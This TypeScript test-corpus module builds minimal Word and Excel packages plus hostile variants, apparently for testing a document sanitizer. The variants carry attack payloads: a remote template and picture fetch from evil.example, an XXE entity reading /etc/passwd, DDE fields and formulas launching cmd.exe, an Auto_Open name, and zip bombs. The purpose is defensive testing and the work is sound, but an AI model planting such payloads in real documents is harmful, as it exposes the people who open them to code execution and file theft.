/**
 * A generated corpus of Office packages for tests: minimal valid DOCX/XLSX written by hand
 * (fflate's zipSync, an implementation independent of ours) and hostile variants, each a small
 * change to the minimal file. Nothing is downloaded. Bomb builders are re-exported from zip/.
 */
import { crc32, deflateRawSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { rawZip, zerosStream } from '../zip/test-bombs.ts';

export { flatBomb, nestedBomb, overlapBomb, rawZip, zerosStream } from '../zip/test-bombs.ts';

export type Files = Record<string, string | Uint8Array>;

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WML = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const SML = 'application/vnd.openxmlformats-officedocument.spreadsheetml';

/** A 1×1 PNG (signature, IHDR, IDAT, IEND). */
export const PNG_1X1 = Uint8Array.from(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  ),
);

export function pack(files: Files): Uint8Array {
  const entries = Object.fromEntries(
    Object.entries(files).map(([name, data]) => [name, typeof data === 'string' ? strToU8(data) : data]),
  );
  return zipSync(entries, { level: 6, mtime: new Date('2020-01-01T00:00:00Z') });
}

export interface Rel {
  id: string;
  type: string;
  target: string;
  external?: boolean;
}

export function rels(list: readonly Rel[]): string {
  const items = list.map(
    (r) =>
      `<Relationship Id="${r.id}" Type="${r.type.startsWith('http') ? r.type : `${REL}/${r.type}`}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`,
  );
  return `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`;
}

export function contentTypes(
  overrides: Record<string, string>,
  defaults: Record<string, string> = {},
): string {
  const all = {
    rels: 'application/vnd.openxmlformats-package.relationships+xml',
    xml: 'application/xml',
    png: 'image/png',
    ...defaults,
  };
  return `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${Object.entries(
    all,
  )
    .map(([e, t]) => `<Default Extension="${e}" ContentType="${t}"/>`)
    .join('')}${Object.entries(overrides)
    .map(([p, t]) => `<Override PartName="${p}" ContentType="${t}"/>`)
    .join('')}</Types>`;
}

const CORE = `${XML}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>申請書</dc:title><dc:creator>山田 太郎</dc:creator><cp:lastModifiedBy>山田 太郎</cp:lastModifiedBy><dcterms:created xsi:type="dcterms:W3CDTF">2024-04-01T00:00:00Z</dcterms:created></cp:coreProperties>`;
const APP = `${XML}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>Microsoft Office Word</Application><Company>○○市役所</Company><HyperlinkBase>http://evil.example/</HyperlinkBase></Properties>`;

export const PARAGRAPH = '申請書';

const PROPERTIES = {
  '/docProps/core.xml': 'application/vnd.openxmlformats-package.core-properties+xml',
  '/docProps/app.xml': 'application/vnd.openxmlformats-officedocument.extended-properties+xml',
};
const DOCX_TYPES = {
  '/word/document.xml': `${WML}.document.main+xml`,
  '/word/styles.xml': `${WML}.styles+xml`,
  '/word/settings.xml': `${WML}.settings+xml`,
  ...PROPERTIES,
};
const XLSX_TYPES = {
  '/xl/workbook.xml': `${SML}.sheet.main+xml`,
  '/xl/worksheets/sheet1.xml': `${SML}.worksheet+xml`,
  '/xl/sharedStrings.xml': `${SML}.sharedStrings+xml`,
  '/xl/styles.xml': `${SML}.styles+xml`,
  '/xl/calcChain.xml': `${SML}.calcChain+xml`,
  ...PROPERTIES,
};

/** The parts of a minimal DOCX: a Japanese paragraph, a picture, styles, settings, properties. */
export function docxFiles(body = ''): Files {
  return {
    '[Content_Types].xml': contentTypes(DOCX_TYPES),
    '_rels/.rels': rels([
      { id: 'rId1', type: 'officeDocument', target: 'word/document.xml' },
      {
        id: 'rId2',
        type: 'http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties',
        target: 'docProps/core.xml',
      },
      { id: 'rId3', type: 'extended-properties', target: 'docProps/app.xml' },
    ]),
    'word/document.xml': `${XML}<w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:r><w:t>${PARAGRAPH}</w:t></w:r></w:p><w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="Picture 1"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId10"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p><w:p><w:hyperlink r:id="rId11"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p>${body}<w:sectPr/></w:body></w:document>`,
    'word/_rels/document.xml.rels': rels([
      { id: 'rId1', type: 'styles', target: 'styles.xml' },
      { id: 'rId2', type: 'settings', target: 'settings.xml' },
      { id: 'rId10', type: 'image', target: 'media/image1.png' },
      { id: 'rId11', type: 'hyperlink', target: 'https://link.example/page', external: true },
    ]),
    'word/styles.xml': `${XML}<w:styles xmlns:w="${W}"><w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>`,
    'word/settings.xml': `${XML}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:zoom w:percent="100"/><w:rsids><w:rsidRoot w:val="00112233"/></w:rsids></w:settings>`,
    'word/media/image1.png': PNG_1X1,
    'docProps/core.xml': CORE,
    'docProps/app.xml': APP,
  };
}

export const minimalDocx = () => pack(docxFiles());

/** DOCM: macro-enabled main part, vbaProject.bin and vbaData.xml. */
export function docmWithMacros(): Uint8Array {
  const f = docxFiles();
  f['[Content_Types].xml'] = contentTypes(
    {
      ...DOCX_TYPES,
      '/word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml',
      '/word/vbaData.xml': 'application/vnd.ms-word.vbaData+xml',
    },
    { bin: 'application/vnd.ms-office.vbaProject' },
  );
  f['word/_rels/document.xml.rels'] = rels([
    { id: 'rId1', type: 'styles', target: 'styles.xml' },
    { id: 'rId2', type: 'settings', target: 'settings.xml' },
    { id: 'rId10', type: 'image', target: 'media/image1.png' },
    {
      id: 'rId9',
      type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
      target: 'vbaProject.bin',
    },
  ]);
  f['word/vbaProject.bin'] = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 1, 2, 3]);
  f['word/_rels/vbaProject.bin.rels'] = rels([
    {
      id: 'rId1',
      type: 'http://schemas.microsoft.com/office/2006/relationships/wordVbaData',
      target: 'vbaData.xml',
    },
  ]);
  f['word/vbaData.xml'] =
    `${XML}<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`;
  return pack(f);
}

/** The remote template attack: settings.xml.rels → External attachedTemplate. */
export function docxWithRemoteTemplate(): Uint8Array {
  const f = docxFiles();
  f['word/settings.xml'] =
    `${XML}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/><w:linkStyles/></w:settings>`;
  f['word/_rels/settings.xml.rels'] = rels([
    { id: 'rId1', type: 'attachedTemplate', target: 'http://evil.example/t.dotm', external: true },
  ]);
  return pack(f);
}

/** XXE: a DOCTYPE with an external entity in the main part. */
export function docxWithXxe(): Uint8Array {
  const f = docxFiles();
  f['word/document.xml'] =
    `${XML}<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>`;
  return pack(f);
}

/** An ActiveX control (w:control → activeX1.xml + .bin) and an OLE object (w:object → oleObject1.bin). */
export function docxWithActiveXAndOle(): Uint8Array {
  const body = `<w:p><w:r><w:object><v:shape id="s1" xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rId21"/></v:shape><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId20"/></w:object></w:r></w:p><w:p><w:r><w:pict><w:control r:id="rId22" w:name="CommandButton1"/></w:pict></w:r></w:p>`;
  const f = docxFiles(body);
  f['[Content_Types].xml'] = contentTypes(
    { ...DOCX_TYPES, '/word/activeX/activeX1.xml': 'application/vnd.ms-office.activeX+xml' },
    { bin: 'application/vnd.openxmlformats-officedocument.oleObject', emf: 'image/x-emf' },
  );
  f['word/_rels/document.xml.rels'] = rels([
    { id: 'rId1', type: 'styles', target: 'styles.xml' },
    { id: 'rId2', type: 'settings', target: 'settings.xml' },
    { id: 'rId10', type: 'image', target: 'media/image1.png' },
    { id: 'rId20', type: 'oleObject', target: 'embeddings/oleObject1.bin' },
    { id: 'rId21', type: 'image', target: 'media/image2.emf' },
    { id: 'rId22', type: 'control', target: 'activeX/activeX1.xml' },
  ]);
  f['word/embeddings/oleObject1.bin'] = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 9, 9, 9]);
  f['word/media/image2.emf'] = Uint8Array.from([1, 0, 0, 0, 0x20, 0x45, 0x4d, 0x46]);
  f['word/activeX/activeX1.xml'] =
    `${XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="${R}" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1"/>`;
  f['word/activeX/_rels/activeX1.xml.rels'] = rels([
    {
      id: 'rId1',
      type: 'http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary',
      target: 'activeX1.bin',
    },
  ]);
  f['word/activeX/activeX1.bin'] = Uint8Array.from([1, 2, 3, 4]);
  return pack(f);
}

/** DDE and INCLUDEPICTURE fields, simple and complex, one hidden by nesting. */
export function docxWithDdeFields(): Uint8Array {
  const run = (inner: string) => `<w:r>${inner}</w:r>`;
  const fld = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
  const instr = (t: string) => run(`<w:instrText xml:space="preserve">${t}</w:instrText>`);
  const body = [
    `<w:p>${fld('begin')}${instr(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')}${fld('separate')}${run('<w:t>表示結果</w:t>')}${fld('end')}</w:p>`,
    `<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; "><w:r><w:t>画像</w:t></w:r></w:fldSimple></w:p>`,
    `<w:p>${fld('begin')}${fld('begin')}${instr('QUOTE 68 68 69')}${fld('separate')}${run('<w:t>DDE</w:t>')}${fld('end')}${instr(' cmd ')}${fld('separate')}${run('<w:t>隠し</w:t>')}${fld('end')}</w:p>`,
    `<w:p>${fld('begin')}${instr(' PAGE ')}${fld('separate')}${run('<w:t>1</w:t>')}${fld('end')}</w:p>`,
  ].join('');
  return pack(docxFiles(body));
}

/** The parts of a minimal XLSX: one sheet with a Japanese shared string, a number and a formula. */
export function xlsxFiles(sheetData = ''): Files {
  return {
    '[Content_Types].xml': contentTypes(XLSX_TYPES),
    '_rels/.rels': rels([
      { id: 'rId1', type: 'officeDocument', target: 'xl/workbook.xml' },
      {
        id: 'rId2',
        type: 'http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties',
        target: 'docProps/core.xml',
      },
    ]),
    'xl/workbook.xml': `${XML}<workbook xmlns="${S}" xmlns:r="${R}"><bookViews><workbookView activeTab="0"/></bookViews><sheets><sheet name="申請" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="Total">申請!$B$1</definedName></definedNames><calcPr calcId="191029"/></workbook>`,
    'xl/_rels/workbook.xml.rels': rels([
      { id: 'rId1', type: 'worksheet', target: 'worksheets/sheet1.xml' },
      { id: 'rId2', type: 'sharedStrings', target: 'sharedStrings.xml' },
      { id: 'rId3', type: 'styles', target: 'styles.xml' },
      { id: 'rId4', type: 'calcChain', target: 'calcChain.xml' },
    ]),
    'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="${S}" xmlns:r="${R}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>42</v></c><c r="C1"><f>B1*2</f><v>84</v></c></row>${sheetData}</sheetData></worksheet>`,
    'xl/sharedStrings.xml': `${XML}<sst xmlns="${S}" count="1" uniqueCount="1"><si><t>${PARAGRAPH}</t></si></sst>`,
    'xl/styles.xml': `${XML}<styleSheet xmlns="${S}"><fonts count="1"><font><sz val="11"/><name val="Yu Gothic"/></font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders><cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellXfs></styleSheet>`,
    'xl/calcChain.xml': `${XML}<calcChain xmlns="${S}"><c r="C1" i="1"/></calcChain>`,
    'docProps/core.xml': CORE,
  };
}

export const minimalXlsx = () => pack(xlsxFiles());

/** DDE formulas (pipe form, shared, string result) and a ddeLink external-link part. */
export function xlsxWithDde(): Uint8Array {
  const rows =
    `<row r="2"><c r="A2"><f>cmd|' /C calc'!A0</f><v>0</v></c><c r="B2" t="str"><f>=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''</f><v>計算</v></c></row>` +
    `<row r="3"><c r="A3"><f t="shared" ref="A3:A4" si="0">RTD("x.y",,"z")</f><v>1</v></c></row><row r="4"><c r="A4"><f t="shared" si="0"/><v>2</v></c></row>` +
    `<row r="5"><c r="A5" t="str"><f>"a|b"&amp;"c"</f><v>a|bc</v></c></row>`;
  const f = xlsxFiles(rows);
  f['[Content_Types].xml'] = contentTypes({
    ...XLSX_TYPES,
    '/xl/externalLinks/externalLink1.xml': `${SML}.externalLink+xml`,
    '/xl/externalLinks/externalLink2.xml': `${SML}.externalLink+xml`,
  });
  f['xl/workbook.xml'] =
    `${XML}<workbook xmlns="${S}" xmlns:r="${R}"><sheets><sheet name="申請" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId5"/><externalReference r:id="rId6"/></externalReferences><definedNames><definedName name="Evil">cmd|'/c calc'!A0</definedName><definedName name="Ext">[2]Sheet1!$A$1</definedName><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>`;
  f['xl/_rels/workbook.xml.rels'] = rels([
    { id: 'rId1', type: 'worksheet', target: 'worksheets/sheet1.xml' },
    { id: 'rId2', type: 'sharedStrings', target: 'sharedStrings.xml' },
    { id: 'rId3', type: 'styles', target: 'styles.xml' },
    { id: 'rId5', type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
    { id: 'rId6', type: 'externalLink', target: 'externalLinks/externalLink2.xml' },
  ]);
  f['xl/externalLinks/externalLink1.xml'] =
    `${XML}<externalLink xmlns="${S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`;
  f['xl/externalLinks/externalLink2.xml'] =
    `${XML}<externalLink xmlns="${S}" xmlns:r="${R}"><externalBook r:id="rId1"/></externalLink>`;
  f['xl/externalLinks/_rels/externalLink2.xml.rels'] = rels([
    { id: 'rId1', type: 'externalLinkPath', target: 'https://files.evil.example/book.xlsx', external: true },
  ]);
  return pack(f);
}

/** A DOCX whose main part is a flat bomb: `mib` MiB of zeros, honest or lying about its size. */
export function docxWithBombPart(mib = 1024, declaredSize?: number): Uint8Array {
  const entries = Object.entries(docxFiles()).map(([name, data]) => {
    const bytes = typeof data === 'string' ? strToU8(data) : data;
    if (name === 'word/document.xml') {
      const bomb = zerosStream(mib);
      return { name, method: 8, crc: bomb.crc, compressed: bomb.data, size: bomb.size, declaredSize };
    }
    return { name, method: 8, crc: crc32(bytes), compressed: deflateRawSync(bytes), size: bytes.length };
  });
  return rawZip(entries);
}
